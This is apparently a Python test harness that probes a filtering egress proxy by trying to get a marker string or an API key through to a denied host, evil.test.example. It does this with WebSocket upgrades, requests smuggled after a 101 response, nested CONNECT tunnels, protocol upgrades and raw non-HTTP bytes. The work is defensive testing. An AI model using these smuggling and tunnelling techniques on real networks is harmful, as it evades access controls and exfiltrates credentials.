"""Begins as one protocol and goes on as another. The argument is a mark that must not get past what is allowed."""

import base64
import os
import struct
import sys

from attack import as_bytes, attempt, get, raw, report, say, tcp, tls

API, OTHER, EVIL = "api.test.example", "other.test.example", "evil.test.example"
KEY = os.environ["API_KEY"]
MARK = sys.argv[1]
UPGRADE = [
    ("Upgrade", "websocket"),
    ("Connection", "Upgrade"),
    ("Sec-WebSocket-Version", "13"),
    ("Sec-WebSocket-Key", base64.b64encode(os.urandom(16)).decode()),
]


def frame(text, opcode=1, fin=True):
    data, mask = as_bytes(text), os.urandom(4)
    length = bytes([0x80 | len(data)]) if len(data) < 126 else bytes([0x80 | 126]) + struct.pack(">H", len(data))
    return (
        bytes([(0x80 if fin else 0) | opcode])
        + length
        + mask
        + bytes(byte ^ mask[index % 4] for index, byte in enumerate(data))
    )


def websocket(host, path, frames, headers=(), quiet=2):
    """Upgrades, sends frames, and gives the answer and what came after it."""
    with tls(host) as sock:
        sock.sendall(get(host, path, headers=[*UPGRADE, *headers]))
        head = b""
        while b"\r\n\r\n" not in head:
            piece = sock.recv(4096)
            if not piece:
                raise ConnectionError("ended before an answer")
            head += piece
        status = int(head.split()[1])
        if status != 101:
            return {"status": status, "body": head.decode("latin1")}
        for one in frames:
            sock.sendall(one)
        return {"status": status, **raw(sock, b"", quiet)}


@attempt
def honest_websocket():
    return websocket(
        API,
        "/honest",
        [frame("hello")],
        [
            ("Authorization", f"Bearer {KEY}"),
            ("Sec-WebSocket-Extensions", "permessage-deflate; client_max_window_bits"),
        ],
    )


@attempt
def placeholder_in_a_frame_to_approved():
    return websocket(API, "/frame_approved", [frame(f"key {KEY}")])


@attempt
def placeholder_in_a_frame_to_other():
    return websocket(OTHER, "/frame_other", [frame(f"key {KEY}")], [("Authorization", f"Bearer {KEY}")])


@attempt
def placeholder_in_fragments_to_other():
    return websocket(
        OTHER, "/fragments_other", [frame(KEY[:30], 1, False), frame(KEY[30:60], 0, False), frame(KEY[60:], 0)]
    )


@attempt
def websocket_to_denied():
    return websocket(EVIL, "/denied", [frame(MARK)])


@attempt
def other_host_in_the_upgrade():
    with tls(API) as sock:
        return say(sock, get(EVIL, "/other_host", headers=UPGRADE))


@attempt
def http_after_101():
    """What follows a 101 is the upgraded protocol; another request to another host must not become one."""
    return websocket(API, "/http_after_101", [get(EVIL, f"/{MARK}", headers=[("X-Attempt", "http_after_101")])])


@attempt
def early_request_behind_the_upgrade():
    with tls(API) as sock:
        return raw(
            sock,
            get(API, "/refuse", headers=UPGRADE) + get(EVIL, f"/{MARK}", headers=[("X-Attempt", "behind_upgrade")]),
            2,
        )


def other_upgrade(name, protocol, headers=()):
    def run():
        with tls(API) as sock:
            return raw(
                sock,
                get(
                    API,
                    f"/{name}",
                    headers=[
                        ("Upgrade", protocol),
                        ("Connection", "Upgrade"),
                        ("Authorization", f"Bearer {KEY}"),
                        *headers,
                    ],
                )
                + as_bytes(MARK),
                2,
            )

    run.__name__ = name
    attempt(run)


other_upgrade("upgrade_to_anything", "anything")
other_upgrade("upgrade_to_h2c", "h2c", [("HTTP2-Settings", "AAMAAABkAAQAAP__")])
other_upgrade("upgrade_to_tls", "TLS/1.3, HTTP/1.1")
other_upgrade("upgrade_to_two", "websocket, anything", UPGRADE[2:])


@attempt
def switched_without_being_asked():
    """An upstream that switches by itself, to be spoken to as anybody likes."""
    with tls(API) as sock:
        return raw(sock, get(API, "/switch_without_asking") + get(EVIL, f"/{MARK}"), 2)


@attempt
def nested_connect():
    """Through CONNECT to an allowed host, then CONNECT again to another."""
    with tcp(API, 80) as sock:
        first = say(sock, f"CONNECT {API}:443 HTTP/1.1\r\nHost: {API}:443\r\n\r\n", "CONNECT")
        if first["status"] != 200:
            return {"first": first["status"], **first}
        second = say(sock, f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n", "CONNECT")
        return {"first": 200, **second}


@attempt
def connect_in_connect_in_connect():
    with tcp(API, 80) as sock:
        statuses = []
        for _ in range(6):
            statuses.append(say(sock, f"CONNECT {API}:80 HTTP/1.1\r\nHost: {API}:80\r\n\r\n", "CONNECT")["status"])
        return {"statuses": statuses}


@attempt
def raw_inside_connect_to_denied_port():
    with tcp(API, 80) as sock:
        answer = say(sock, "CONNECT ssh.test.example:25 HTTP/1.1\r\nHost: ssh.test.example:25\r\n\r\n", "CONNECT")
        return answer if answer["status"] != 200 else raw(sock, f"SSH-2.0-x {MARK}\r\n", 2)


@attempt
def http_inside_connect():
    with tcp(API, 80) as sock:
        answer = say(sock, f"CONNECT {API}:443 HTTP/1.1\r\nHost: {API}:443\r\n\r\n", "CONNECT")
        return answer if answer["status"] != 200 else say(sock, get(EVIL, f"/{MARK}"))


def first_bytes(name, host, port, data):
    def run():
        with tcp(host, port) as sock:
            return raw(sock, data, 3)

    run.__name__ = name
    attempt(run)


FIRST = {
    "ssh": f"SSH-2.0-{MARK}\r\n",
    "binary": b"\0\1\2\3" + MARK.encode() * 4,
    "smtp": f"EHLO {MARK}\r\n",
    "tls_then_junk": b"\x16\x03\x01\x00\x05" + MARK.encode() * 4,
    "socks": b"\5\1\0" + MARK.encode(),
    "postgres": struct.pack(">II", 8, 80877103) + MARK.encode(),
    "line_without_http": f"GET /{MARK}\r\n\r\n",
    "http_0_9": f"GET /{MARK}\n\n",
    "http_3_0": f"GET /{MARK} HTTP/3.0\r\nHost: {API}\r\n\r\n",
    "long_line": b"A" * 200_000,
}
for label, data in FIRST.items():
    first_bytes(f"on_443_{label}_to_allowed", API, 443, data)
    first_bytes(f"on_443_{label}_to_denied", EVIL, 443, data)
    first_bytes(f"on_80_{label}_to_denied", EVIL, 80, data)
first_bytes("ssh_on_22_to_denied", EVIL, 22, FIRST["ssh"])
first_bytes("ssh_on_22_to_allowed", "ssh.test.example", 22, FIRST["ssh"])


@attempt
def raw_in_tls():
    """TLS to an allowed host, and something inside that is not HTTP."""
    with tls(API) as sock:
        return raw(sock, f"SSH-2.0-{MARK}\r\n", 2)


@attempt
def tls_in_tls():
    with tls(API) as sock:
        return raw(sock, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + MARK.encode() * 20, 2)


@attempt
def odd_alpn():
    with tls(API, alpn=("smtp", "ssh")) as sock:
        return {"alpn": sock.selected_alpn_protocol(), **raw(sock, f"EHLO {MARK}\r\n", 2)}


report(threads=8)
